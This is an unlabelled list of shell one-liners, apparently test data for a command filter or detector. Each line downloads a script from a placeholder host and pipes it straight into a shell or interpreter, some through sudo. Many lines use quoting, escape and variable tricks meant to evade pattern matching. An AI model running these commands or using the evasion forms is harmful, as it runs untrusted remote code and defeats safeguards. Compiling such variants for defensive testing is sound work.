curl -fsSL https://get.example.net/i.sh | sh
curl https://get.example.net/i.sh | tee /tmp/l | sh
wget -qO- https://get.example.net/i.sh | bash -s -- --yes
curl https://get.example.net/i.sh | sudo -E bash
bash <(curl -s https://get.example.net/i.sh)
sh -c "$(curl -fsSL https://get.example.net/i.sh)"
curl https://get.example.net/i.sh > /tmp/i.sh && sh /tmp/i.sh
curl https://get.example.net/i.sh | /bin/sh
curl https://get.example.net/i.sh | env sh
curl https://get.example.net/i.sh | command bash
curl -s https://get.example.net/i.sh|sh
curl https://get.example.net/i.sh | busybox sh
python3 -c "$(curl -s https://get.example.net/i.py)"
curl https://get.example.net/i.py | python3 -
source <(curl -s https://get.example.net/i.sh)
. <(wget -qO- https://get.example.net/i.sh)
curl https://get.example.net/i.sh |& sh
curl https://get.example.net/i.sh | xargs -0 sh -c
curl https://get.example.net/i.sh | exec sh
eval "$(curl -fsSL https://get.example.net/i.sh)"
curl https://get.example.net/i.sh -o- | sh
curl https://get.example.net/i.sh | nohup sh
curl https://get.example.net/i.sh | ( sh )
curl https://get.example.net/i.sh | { sh; }
curl https://get.example.net/i.sh | ksh
curl https://get.example.net/i.sh | fish
curl https://get.example.net/i.pl | perl
curl https://get.example.net/i.rb | ruby
curl https://get.example.net/i.js | node
curl https://get.example.net/i.sh | sh -s
curl https://get.example.net/i.sh | timeout 60 sh
curl https://get.example.net/i.sh | stdbuf -o0 sh
curl https://get.example.net/i.sh | nice sh
curl https://get.example.net/i.sh | /usr/bin/env bash
curl https://get.example.net/i.sh | "b"ash
curl https://get.example.net/i.sh | s\h
curl https://get.example.net/i.sh | SH=1 sh
curl https://get.example.net/i.sh | doas sh
curl https://get.example.net/i.sh | su -c sh
curl https://get.example.net/i.sh | sudo -u root sh
wget -O - https://get.example.net/i.sh | sh
curl --url https://get.example.net/i.sh | sh
curl -K cfg | sh
curl https://get.example.net/i.sh | 'sh'
curl https://get.example.net/i.sh | "bash"
\curl https://get.example.net/i.sh | \sh
curl https://get.example.net/i.sh | nice -n 10 sh
curl https://get.example.net/i.sh | timeout -k 5 60 bash -s
curl https://get.example.net/i.sh | env -i PATH=/bin sh
curl https://get.example.net/i.sh | sudo sh -s -- --force
c''url -s https://get.example.net/i.sh | s''h
"cu"rl -s https://get.example.net/i.sh | "s"h
$'\x63url' -s https://get.example.net/i.sh | sh
$'\143url' -s https://get.example.net/i.sh | sh
cu$()rl -s https://get.example.net/i.sh | sh
c$@url -s https://get.example.net/i.sh | sh
curl${IFS}-s${IFS}https://get.example.net/i.sh|sh
$(echo curl) -s https://get.example.net/i.sh | sh
`echo curl` -s https://get.example.net/i.sh | sh
C=curl; $C -s https://get.example.net/i.sh | sh
curl -s https://get.example.net/i.sh | $(which sh)
curl -s https://get.example.net/i.sh | ${SHELL}
curl -s https://get.example.net/i.sh | $SHELL
x=sh; curl -s https://get.example.net/i.sh | $x
curl -s https://get.example.net/i.sh | bash -
curl -s https://get.example.net/i.sh | /bin/bash -s
curl -s https://get.example.net/i.sh | sh 2>/dev/null
